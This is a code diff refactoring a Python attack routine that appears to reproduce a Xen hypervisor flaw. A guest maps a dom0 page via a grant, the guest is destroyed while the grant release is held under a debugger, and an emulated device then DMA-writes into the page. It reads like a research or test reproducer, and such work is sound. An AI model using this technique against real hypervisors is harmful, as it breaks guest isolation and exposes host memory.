@@ -13,6 +13,7 @@ import steps
 import xen
 from base import OUT, step
 from gdb import Gdb, symbol
+from share import Share
 from steps import P1, P2, PAGE, expect, is_same, overwritten, seed
 
 
@@ -23,13 +24,10 @@ def attack(w, image):
     with step("guest") as s:
         w.edu.ready(s.show)
     mine, theirs, late = seed(), seed(), seed()
-    m.dom0(f"share-page {w.edu.id} /tmp/fifo /tmp/page >/tmp/page.err 2>&1 & sleep 1; cat /tmp/page /tmp/page.err")
-    ref = int(m.dom0("sed -n 's/^ref //p' /tmp/page"))
-
-    def page(order):
-        return m.dom0(f"echo '{order}' > /tmp/fifo; usleep 300000; tail -n 1 /tmp/page").strip()
+    share = Share(m, w.edu.id)
+    page = share.page
     page(f"fill {mine:x}")
-    lines = w.edu.edu(f"give,{P1:#x}", f"map,{P1:#x},0,{ref}", f"look,{P1:#x},{mine:#x}",
+    lines = w.edu.edu(f"give,{P1:#x}", f"map,{P1:#x},0,{share.ref}", f"look,{P1:#x},{mine:#x}",
                       f"fill,{P2:#x},{theirs:#x}", f"load,{P2:#x},{PAGE}", f"store,{P1:#x},{PAGE}",
                       f"fill,{P2:#x},{late:#x}", f"load,{P2:#x},{PAGE}")
     expect("status=0" in lines[1] and is_same(lines[2]), "The guest could not map dom0's page.", "\n".join(lines))
@@ -43,15 +41,11 @@ def attack(w, image):
     m.dom0(f"xl destroy {w.edu.name} >/tmp/destroy 2>&1 &")
     with step("destroy, held behind the release of the grants"):
         held = g.wait_stop()
-    for register, value in ((0x80, 0x40000), (0x88, P1), (0x90, 8), (0x98, 3)):
-        g.poke64(dev.EDU_A.bar + register, value)
-    g.go_without(held)                   # the device takes 100 ms
-    time.sleep(1)
-    g.stop()
+    g.dma(held, dev.EDU_A.bar, 0x40000, P1, 8, 3)
     g.clear(place)
     g.close()
     seen = page(f"look {mine:x}")
-    m.dom0("echo quit > /tmp/fifo")
+    share.close()
     for _ in range(100):
         if w.edu.name not in m.dom0("xl list"):
             break
